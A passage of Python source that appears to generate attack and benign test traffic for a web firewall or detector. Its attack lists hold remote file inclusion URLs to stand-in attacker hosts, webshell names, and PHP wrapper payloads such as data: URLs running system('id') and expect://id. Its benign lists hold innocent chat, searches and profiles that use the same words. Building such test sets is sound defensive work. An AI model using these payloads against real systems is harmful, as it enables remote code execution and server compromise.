    "https://attacker.example/x.txt%00.php",
    "https://app.example.com.attacker.example/s.txt",
    "https://app.example.com@attacker.example/s.txt",
    "http://attacker.example/x.txt/",
    "https://a.ngrok-free.app/s.txt",
    "http://k7x2q9.oastify.com/inc.txt",
    "http://c2abc.interact.sh/t.txt",
    "https://attacker.example/x.jsp",
    "https://attacker.example/payload.xsl",
    "https://attacker.example/plugin.js",
    "https://attacker.example/theme/functions.php",
    r"https:\\attacker.example\s.txt",
    r"http:/\attacker.example/s.txt",
    "https://attacker.example%2f@app.example.com/s.txt",
    "https://attacker.example/wso.txt;.php",
    "http://evil.example.net:81/b374k.txt",
    "https://storage.googleapis.com/attacker-kit/s.txt",
    "https://attacker-kit.s3.amazonaws.com/s.txt",
    "https://raw.githubusercontent.com/attacker-kit/tools/main/c99.php",
    "http://attacker.example/views/layout.ejs",
]
# PHP stream wrappers and OS loaders that fetch remote code over something other than http(s): ftp/ftps,
# ssh2.*, SMB/UNC and WebDAV UNC on Windows, file:// to a UNC host, data:, expect:, compress.zlib:// and
# php://filter wrapped around a remote URL, jar:, tftp
PROTOCOLS: list[Entry] = [
    "ftp://attacker.example/pub/shell.php",
    f"ftp://anonymous:a@{ATK}/s.txt",
    "ftps://attacker.example/s.txt",
    "ssh2.sftp://kit:kit@attacker.example/var/s.php",
    "ssh2.exec://kit:kit@attacker.example/id",
    "smb://attacker.example/share/s.php",
    r"\\attacker.example\share\s.php",
    r"\\203.0.113.9\pub\x.php",
    r"\\attacker.example@SSL\DavWWWRoot\s.php",
    r"\\attacker.example@8080\dav\s.php",
    "file://attacker.example/share/s.php",
    "file:////attacker.example/share/s.txt",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain;base64," + WEBSHELL_B64,
    "data:;base64," + PHPINFO_B64,
    "data:text/plain;charset=utf-8,<?php phpinfo();?>",
    "expect://id",
    "expect://ls -la",
    "jar:http://attacker.example/x.jar!/Evil.class",
    "compress.zlib://http://attacker.example/s.txt",
    "php://filter/resource=http://attacker.example/s.txt",
    "php://filter/convert.base64-decode/resource=http://attacker.example/s.b64",
    "dav://attacker.example/share/s.php",
    f"tftp://{ATK}/s.txt",
    "smb://guest@203.0.113.9/pub/s.php",
    r"\\?\UNC\attacker.example\share\s.php",
    r"\\attacker.example\c$\s.php",
    "nfs://attacker.example/export/s.php",
    "ftp://attacker.example/pub/s.txt%00",
    "data:application/x-httpd-php;base64," + WEBSHELL_B64,
    "jar:https://attacker.example/k.jar!/index.jsp",
    "ssh2.sftp://203.0.113.9:22/tmp/s.php",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_SEP),
    ("rce", "unix-shell-expression-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_NAMES),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILE_ACCESS),
    ("lfi", "absolute-paths", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_TRUNCATION),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_TRAILING_Q),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# include-parameter payloads are `name=url` pairs themselves: sent unquoted, where a pair can travel
RAW_KV_SUBS = {"include-parameter-with-url"}
UPLOAD_CYCLE = (["multipart-filename", "query", "json", "form", "path", "cookie", "header:Referer", "xml",
                 "multipart-field", "param-name"],
                ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:Referer", "rs-cookie",
                 "rs-param-name", "rs-multipart-filename", "rs-header:X-Test-Header"])
SUB_CYCLES = {
    "include-parameter-with-url": (["query", "form", "cookie"], ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]),
    "path-traversal": UPLOAD_CYCLE,
    "restricted-file-extensions": UPLOAD_CYCLE,
    "null-byte-truncation": UPLOAD_CYCLE,
}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    # profile-like names: the stored values a report, an admin page or an export uses later
    names = ["q", "display_name", "bio", "website", "avatar", "template", "file", "page", "name", "export_name",
             "theme"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@?%"
    upload = "GIF89a"
    raw_places = ("query", "form", "cookie", "rs-query", "rs-form", "rs-cookie")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return sub in RAW_KV_SUBS

    def fits(self, place: str, v: str) -> bool:
        if place in ("xml", "rs-xml", "multipart-field", "multipart-filename", "rs-multipart-filename"):
            return all(ch >= " " for ch in v) and len(v) < 2000   # XML and multipart names: no control characters
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    "run `npm ci && npm test` before you push, CI does exactly the same",
    "the healthcheck is just `curl -fsS http://localhost:8080/healthz || exit 1` in the Dockerfile",
    "kubectl logs deploy/api | grep -i timeout shows the same three requests every hour",
    "git bash on Windows mangles paths like /c/Users/ana, use cmd /c or PowerShell for the installer",
    "PowerShell tip: Get-ChildItem -Recurse | Select-String 'TODO' beats findstr by a mile",
    "on Windows the client config lives in %APPDATA%\\Acme\\settings.ini, on the Mac in ~/Library/Preferences",
    "old runbook says edit C:\\Windows\\System32\\drivers\\etc\\hosts for staging; we have DNS for that now",
    "please don't commit .env files, the .gitignore already covers .env and .env.local",
    "someone pushed id_rsa.pub to the infra repo, that's fine, it's the public half",
    "rotated the deploy key after the laptop loss, the old id_rsa is revoked on GitHub",
    "pentest report flagged /etc/passwd readable through the old export endpoint, fixed in 4.2.1",
    "advisory is out: path traversal (../ in the avatar filename) in the import, patched, see changelog",
    "Shellshock was 2014, our base image ships bash 5.2, we're fine",
    "the reverse shell in the red team report came from the Jenkins script console, not from our app",
    "nc -zv db.internal 5432 says the port is open, so it's an auth problem not the network",
    "socat TCP-LISTEN:9229,fork TCP:127.0.0.1:9229 is how I reach the node debugger in the pod",
    "wget and curl to the internet are blocked on the build agents, use the artifact proxy",
    "the docs say `curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -`, read the script first",
    "backup job writes db-2024-05-01.sql.gz to the bucket every night at 02:00",
    "config.php.bak was still on the old web server, deleted it and rotated the db password",
    "web.config transforms run in the release pipeline, not on your machine",
    "the .htaccess rewrite sends /blog/anything to index.php?page=anything on the marketing site",
    "php://filter is only used by the legacy image resizer and that's being removed in June",
    "who owns the \\\\fileserver\\finance share? the scanner can't write there since Monday",
    "ftp://ftp.example.org is gone, the mirror is https only now",
    "imports via data: URLs are capped at 2 MB for avatars",
    "CSV export escapes =, +, - and @ at the start of a cell now, so Excel won't run formulas",
    "tee the output so we keep it: ./migrate.sh 2>&1 | tee migrate.log",
    "echo $PATH shows /usr/local/bin first, that's why the old python wins",
    "display names can contain quotes, O'Brien and \"Bubba\" Smith are both real customers, test both",
    "`ls -la /var/log/nginx` shows access.log rotated hourly on the edge boxes",
    "/proc/self/status is how the sidecar reads its own memory usage",
    "win.ini and boot.ini questions go to the desktop team, not to us",
    "the ping tool in the admin panel only accepts a hostname now, no extra arguments",
    "Get-Content .\\logs\\app.log -Tail 50 -Wait is the Windows equivalent of tail -f",
    "python3 -m http.server 8000 to share the build folder on the LAN, then stop it",
    "perl -pi -e 's/staging/prod/g' *.conf is still my favourite one-liner",
    "the runner executes bash -c 'set -euo pipefail; make release'",
    "IFS=$'\\n' in the loop fixed the filenames-with-spaces bug in the cleanup script",
    "brace expansion trick: cp app.conf{,.bak} makes a quick backup before editing",
    "certutil -hashfile installer.exe SHA256 to check the Windows download matches the release page",
    "iwr is just the alias for Invoke-WebRequest, the Windows agent install doc uses it",
    "customer says their company name 'Smith & Sons; Ltd' breaks the invoice PDF, reproduced on staging",
    "template lookup goes templates/ first, then templates/shared/, no absolute paths",
    "?page=2&per_page=50 is the paging; the API treats page=0 like page=1",
    "file=report.pdf in the download link is a signed id now, not a path",
    "template=invoice_v2 picks the layout, anything else falls back to the default",
    "http://10.0.4.12:8080/ is the old Jenkins, please use jenkins.corp from now on",
    "staging API is http://192.168.10.20:3000/ when you're on the VPN",
    "raw.githubusercontent.com is blocked by the proxy, vendor the script into the repo",
    "access.log and error.log both go to stdout in the container, look in Loki",
    "PHP sessions sat in /var/lib/php/sessions on the old box, Redis on the new one",
    ".git/ was reachable on the marketing site, nginx now denies dotfiles",
    "the dump.sql attached to the ticket is anonymised, fine to share with the vendor",
    "settings.ini has a [proxy] section for the Windows client, set it there",
    "who added `find /tmp -mtime +7 -delete` to cron? it ate my scratch files",
    "cmd.exe quoting is cursed, use Start-Process -ArgumentList in PowerShell instead",
    "ssh -i ~/.ssh/id_ed25519 deploy@bastion then hop to app1, same as before",
    "the smb:// links in the wiki only open on the office network",
    "my bio: SRE, bash and PowerShell person, ex-Windows admin, ask me about IIS logs",
]
SEARCHES = [
    "curl", "wget", "powershell", "bash", "cmd", "reverse shell", "shellshock", "path traversal", "etc/passwd",
    "win.ini", "web.config", "env file", "id_rsa", "php filter", "include", "ftp", "smb share", "O'Brien",
    "Smith & Sons", "Anna | Sales", "socat", "perl", "python", "backup.sql", "config.bak", "settings.ini",
    "htaccess", "access log", "boot.ini", "Windows 11", "tee", "echo", "sleep", "ping", "whoami", "netcat",
    "cron", "sudo", "Invoke-WebRequest", "wsl",
]
PROSE = [
    "Customer reports the export fails when the company name contains ; or | characters.",
    "Ticket 4411: user cannot upload a file named 'Q1 report (final) & notes.pdf'.",
    "Release notes 4.2.1: fixed a path traversal in avatar import; stricter file name checks.",
    "How do I reset the password on the Windows client?",
    "PowerShell script for bulk user import, see the attached import-users.ps1",
    "bash completion for the CLI is in contrib/completion.bash",
    "Support: customer's IT blocks curl and wget, they need an offline installer.",
    "Security review of the shell-out in the PDF renderer, owner: platform team.",
    "Shellshock and Heartbleed are in the security training slides for new hires.",
    "Please check whether /etc/passwd and /etc/hosts are mounted read-only in the image.",
    "The Windows service writes its log to C:\\ProgramData\\Acme\\logs\\service.log.",
    "Customer asked if our agent needs PowerShell 7 or works with Windows PowerShell 5.1.",
    "Move secrets from .env into the vault before the audit.",
    "The include list for the nightly report is set in report.ini, not in code.",
    "Invoice template names: default, compact, invoice_v2.",
    "FTP upload for the bank statements was replaced by SFTP in March.",
    "Desk note: printer share \\\\print01\\floor3 moved to the new server.",
    "Who approved the cron job that runs every minute on app2?",
    "User asks why the backup file ends in .bak and whether they can open it in Excel.",
    "Reverse proxy timeout raised to 60 s for the export endpoint.",
    "Admin asked to remove the test accounts 'test; drop' and 'qa & co'.",
    "Echo Studios asked for a second seat for their Windows laptop.",
    "netcat, socat and nmap are not allowed on production hosts per the hardening guide.",
    "The old PHP site used index.php?page=about style links; redirects are in place.",
    "Dependency update: curl 8.7.1 on the base image closes the CVEs from the scan.",
    "Please attach the access.log excerpt, not the whole file.",
    "The migration guide covers Windows paths with backslashes and UNC shares.",
    "Our CLI prints the config path: ~/.config/acme/config.ini on Linux.",
    "The CSV export now quotes cells that start with =, + or -.",
    "Customer pasted a PowerShell error: Invoke-WebRequest : The remote name could not be resolved.",
    "Document the difference between && and ; in the deploy script for the juniors.",
    "Rename uploads that contain ../ or backslashes instead of rejecting them.",
    "Audit found .git and .svn folders on two old vhosts; removed.",
    "The sample config in the docs is settings.example.ini, copy it to settings.ini.",
    "Question from a partner: can the webhook URL be an IP address like http://203.0.113.50/hook?",
    "Remember to clear the /tmp/sess_* files on the legacy box after the PHP upgrade.",
    "Windows users should run the installer from cmd, not from Git Bash.",
    "The report generator includes header.html and footer.html from the theme folder.",
    "Delete old SQL dumps from the shared drive after 30 days.",
    "How to read a .sql backup file without a database server?",
]
URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.include.php",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://nodejs.org/api/child_process.html",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://nginx.org/en/docs/http/ngx_http_log_module.html",
    "ftp://ftp.gnu.org/gnu/bash/",
    "https://www.rfc-editor.org/rfc/rfc3986#section-5.2.4",
    "https://docs.docker.com/engine/install/ubuntu/",
    "https://git-scm.com/docs/gitignore",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://example.com/downloads/setup.exe?version=2.1&os=windows",
]
PROFILES = [
    ("Seán O'Brien", "12 Main St; Apt 4, Cork"),
    ("Smith & Sons | Plumbing", "Unit 7, Riverside Estate, Leeds"),
    ("Anna \"Annie\" Kowalska", "ul. Długa 5/12, Gdańsk"),
    ("Dev/Ops Team", "Floor 3 / Room 12, Berlin"),
    ("Backup & Restore Ltd", "2 Harbour Rd, Bristol"),
    ("The Pipe Shop", "Canal St 9, Manchester"),
    ("Curl Up Café", "Rue des Lilas 3, Lyon"),
    ("Shell Garage", "A38 Exit 4, Exeter"),
    ("Echo Studios", "Studio 2, 18 Mill Lane, Glasgow"),
    ("Ping Pong Club Utrecht", "Oudegracht 100, Utrecht"),
    ("Path Finders Travel", "Calle Mayor 21, Madrid"),
    ("Windows & Doors Co.", "Trade Park Unit 5, Reading"),
    ("Tee Time Golf", "Clubhouse, 1 Links Rd, St Andrews"),
    ("Root & Branch Gardening", "Orchard Way 3, Hereford"),
    ("Cat & Fiddle Pub", "High St 44, Oxford"),
    ("Bash Street Kids Theatre", "Dundee Rep, Tay Square"),
    ("Sleepwell Hotels", "Kurfürstendamm 200, Berlin"),
    ("Cron Family Bakery", "Market Sq 1, Ghent"),
    ("Passwd Security GmbH", "Hauptstr. 8, München"),
    ("Include Media", "Via Roma 14; Scala B, Torino"),
]
UPLOAD_NAMES = [
    "install.ps1", "setup.sh", "deploy.bat", "id_rsa.pub", "nginx.conf", "report (final) & notes.pdf",
    "O'Brien CV.pdf", "password-policy.pdf", "hosts.txt", "access-log-sample.txt", "Q1_results;v2.xlsx",
    "settings.example.ini", "customers-anonymised.sql", "web.config.sample.xml", "bash-cheatsheet.pdf",
    "powershell-basics.pptx", "shell-station-photo.jpg", "win11-setup-notes.docx", "backup-plan.pdf",
    "curl-examples.md",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "libwww-perl/6.76"),
    ("User-Agent", "Microsoft-WNS/10.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ("Referer", "https://learn.microsoft.com/en-us/powershell/scripting/overview"),
    ("Referer", "https://www.google.com/search?q=curl+upload+file+multipart"),
    ("Referer", "https://stackoverflow.com/questions/4181703/how-to-concatenate-string-variables-in-bash"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=-created"),
    ("Referer", "https://docs.example.com/install/windows#powershell"),
    ("Cookie", "session=abc123; last_path=%2Fdocs%2Finstall%2Fwindows; theme=dark"),
    ("Cookie", "session=abc123; recent_search=backup%20%26%20restore"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.7"),
    ("X-Request-Id", "3c6e0b8a-9c0f-4b5e-8f1d-2a7e4b9c0d11"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Forwarded-For", "198.51.100.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
